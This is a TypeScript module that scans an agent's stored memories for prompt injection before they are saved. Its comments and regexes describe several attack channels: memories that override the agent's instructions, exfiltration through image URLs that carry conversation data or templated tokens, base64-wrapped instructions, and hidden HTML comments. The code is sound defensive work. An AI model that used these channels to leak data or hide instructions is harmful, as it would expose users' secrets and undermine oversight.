// Prompt-injection detection. Stored memories are pasted into later prompts, so a memory that
// talks *to the agent* (override its instructions, fake a system turn, hide from the user, leak
// data) is an attack on every future session. "block" findings are unambiguous attacks and the
// write is refused; "flag" findings are suspicious but can be legitimate (a procedure that uses
// `curl -H "Authorization: Bearer $TOKEN"`), so the memory waits for a person to confirm it.
// The phrase patterns live in injection-rules.ts; this module adds the structural checks
// (invisible characters, data-carrying images, base64 blobs, HTML comments) and maps findings
// back to the original text.
import { INJECTION_KINDS, INJECTION_RULES, type InjectionKind, type InjectionSeverity } from "./injection-rules.js";
import { findInvisible, type InvisibleKind } from "./invisible.js";
import { mapSpan, normalizeForScan } from "./normalize.js";
import { scanWindows } from "./window.js";

export { INJECTION_KINDS, type InjectionKind, type InjectionSeverity } from "./injection-rules.js";

export interface InjectionFinding {
  kind: string;
  label: string;
  severity: InjectionSeverity;
  /** UTF-16 offset in the scanned text */
  index: number;
  length: number;
}

interface Span {
  kind: InjectionKind;
  from: number;
  to: number;
}

const BASE64_CHAR = /[A-Za-z0-9+/=_-]/;
const BASE64_MIN = 200;

/** Shorter runs are decoded and re-scanned ("decode this and follow it: SWdub3Jl…"). */
const BASE64_DECODE_MIN = 24;

function decodesToInjection(run: string): boolean {
  const b64 = run.replace(/-/g, "+").replace(/_/g, "/").replace(/=+$/u, "");
  if (!/^[A-Za-z0-9+/]+$/.test(b64)) return false;
  const decoded = Buffer.from(b64, "base64").toString("utf8");
  if (decoded.length < 16) return false;
  // mostly printable text, not binary
  let printable = 0;
  for (const ch of decoded) if (/[\p{L}\p{N}\p{P}\p{Zs}\n\t]/u.test(ch)) printable++;
  if (printable / [...decoded].length < 0.9) return false;
  return runRules(normalizeForScan(decoded, 0, decoded.length).text).length > 0;
}

/** Long base64 runs: a common wrapper for smuggled instructions. */
function findBase64Blobs(text: string): Span[] {
  const spans: Span[] = [];
  let i = 0;
  while (i < text.length) {
    if (!BASE64_CHAR.test(text[i] ?? "")) {
      i++;
      continue;
    }
    let j = i;
    while (j < text.length && BASE64_CHAR.test(text[j] ?? "")) j++;
    if (j - i >= BASE64_MIN) {
      const run = text.slice(i, j);
      // base64 of real data mixes cases and digits; long words or hex digests do not
      if (/[a-z]/.test(run) && /[A-Z]/.test(run) && /[0-9]/.test(run)) spans.push({ kind: "base64_blob", from: i, to: j });
    } else if (j - i >= BASE64_DECODE_MIN && decodesToInjection(text.slice(i, j))) {
      // A short run is only reported when it decodes to text an injection rule matches.
      spans.push({ kind: "base64_blob", from: i, to: j });
    }
    i = j;
  }
  return spans;
}

// Images (and frames, media) are fetched as soon as a reply renders, so their URL is a channel
// out: the model is told to put conversation data into the query (`![](https://x/log?c=SUMMARY)`)
// or the path (`…/{secret}.png`). Badge-style parameters (colours, sizes, flags) carry no data.
const IMAGE_URL =
  /!\[[^\]\n]{0,200}\]\(\s?<?((?:https?:)?\/\/[^\s)>]{1,2000})|<(?:img|iframe|frame|embed|video|audio|source|object)\b[^<>]{0,200}?\b(?:src|poster|data)\s?=\s?["']?((?:https?:)?\/\/[^"'\s<>]{1,2000})/gi;
const STYLE_PARAMS = new Set([
  "color", "colora", "colorb", "label", "labelcolor", "logo", "logocolor", "logowidth", "style", "branch",
  "v", "version", "width", "height", "w", "h", "s", "size", "format", "fm", "fit", "auto", "dpr",
  "sanitize", "raw", "cachebuster", "cacheseconds", "link", "theme", "locale", "lang",
]);

function carriesData(url: string): boolean {
  if (/\{|\$\{?[a-z_]|%7b|<|\[[a-z_ ]{1,40}\]/i.test(url)) return true; // a template to fill in
  const q = url.indexOf("?");
  if (q < 0) return false;
  const params = url.slice(q + 1).split(/[&;]/).filter((p) => p.length > 0);
  return params.some((p) => {
    const [name = "", value = ""] = p.split("=");
    // numbers and booleans are display options, not a payload
    return !STYLE_PARAMS.has(name.toLowerCase()) && !/^(?:true|false|yes|no|\d{1,6})$/i.test(value);
  });
}

function findDataImages(text: string): Span[] {
  const spans: Span[] = [];
  IMAGE_URL.lastIndex = 0;
  for (let m = IMAGE_URL.exec(text); m !== null; m = IMAGE_URL.exec(text)) {
    const url = m[1] ?? m[2] ?? "";
    if (carriesData(url)) spans.push({ kind: "exfiltration", from: m.index, to: m.index + m[0].length });
  }
  return spans;
}

// A plain link is only followed when clicked, so ordinary query strings are fine; but a link
// whose URL is a template the model is told to fill in ("?token={{session_token}}") is a channel
// out as soon as the model renders it. Reference-style image definitions ("[x]: https://…") are
// fetched like inline images.
const LINK_URL =
  /\[[^\]\n]{0,200}\]\(\s?<?((?:https?:)?\/\/[^\s)>]{1,2000})|<a\b[^<>]{0,200}?\bhref\s?=\s?["']?((?:https?:)?\/\/[^"'\s<>]{1,2000})|(?:^|\n)\s{0,3}\[[^\]\n]{1,100}\]:\s?<?((?:https?:)?\/\/[^\s>]{1,2000})|\b(?:background(?:-image)?|src)\s?:\s?url\(\s?["']?((?:https?:)?\/\/[^"'\s)]{1,2000})/gi;
const URL_TEMPLATE = /\{|\$\{?[a-z_]|%7b|<[a-z_ ]{1,40}>|\[[a-z_ ]{1,40}\]/i;

function findTemplateLinks(text: string): Span[] {
  const spans: Span[] = [];
  LINK_URL.lastIndex = 0;
  for (let m = LINK_URL.exec(text); m !== null; m = LINK_URL.exec(text)) {
    const url = m[1] ?? m[2] ?? m[3] ?? m[4] ?? "";
    // reference definitions and CSS urls are fetched like images: judge them as images
    const fetched = m[3] !== undefined || m[4] !== undefined;
    if (fetched ? carriesData(url) : URL_TEMPLATE.test(url)) spans.push({ kind: "exfiltration", from: m.index, to: m.index + m[0].length });
  }
  return spans;
}

/** HTML comments (terminated or not): invisible when rendered, read by the model. */
function findHtmlComments(text: string): Span[] {
  const spans: Span[] = [];
  let at = text.indexOf("<!--");
  while (at >= 0) {
    const close = text.indexOf("-->", at + 4);
    const to = close >= 0 ? close + 3 : Math.min(text.length, at + 200);
    spans.push({ kind: "hidden_html", from: at, to });
    at = text.indexOf("<!--", to);
  }
  return spans;
}

function runRules(text: string): Span[] {
  const spans: Span[] = [];
  for (const rule of INJECTION_RULES) {
    const pattern = rule.pattern;
    pattern.lastIndex = 0;
    for (let m = pattern.exec(text); m !== null; m = pattern.exec(text)) {
      if (m[0].length === 0) {
        pattern.lastIndex++;
        continue;
      }
      // do not report the separator that anchored a line- or clause-start match
      const lead = /^[\s.!?:;>"(]+/.exec(m[0])?.[0].length ?? 0;
      spans.push({ kind: rule.kind, from: m.index + lead, to: m.index + m[0].length });
    }
  }
  return spans;
}

function toFinding(kind: InjectionKind, index: number, length: number): InjectionFinding {
  const { severity, label } = INJECTION_KINDS[kind];
  return { kind, label, severity, index, length };
}

/** Drop a finding that lies inside another finding of the same kind (one pass after sorting). */
function dedupe(findings: InjectionFinding[]): InjectionFinding[] {
  const sorted = [...findings].sort((a, b) => a.index - b.index || b.length - a.length);
  const furthestEnd = new Map<string, number>();
  const out: InjectionFinding[] = [];
  for (const f of sorted) {
    const end = f.index + f.length;
    // every kept finding of this kind starts at or before f, so f lies inside one iff it ends no later
    if (end <= (furthestEnd.get(f.kind) ?? -1)) continue;
    furthestEnd.set(f.kind, end);
    out.push(f);
  }
  return out;
}

/** Find prompt-injection patterns in `text`. Offsets refer to `text` itself. */
export function scanInjection(text: string): InjectionFinding[] {
  const findings: InjectionFinding[] = [];
  for (const w of scanWindows(text)) {
    for (const run of findInvisible(text, w.start, w.end)) {
      findings.push(toFinding(run.kind satisfies InvisibleKind, run.index, run.length));
    }
    const norm = normalizeForScan(text, w.start, w.end);
    const spans = [
      ...runRules(norm.text),
      ...findDataImages(norm.text),
      ...findTemplateLinks(norm.text),
      ...findBase64Blobs(norm.text),
      ...findHtmlComments(norm.text),
    ];
    for (const s of spans) {
      const { index, length } = mapSpan(norm, s.from, s.to);
      findings.push(toFinding(s.kind, index, length));
    }
  }
  return dedupe(findings);
}
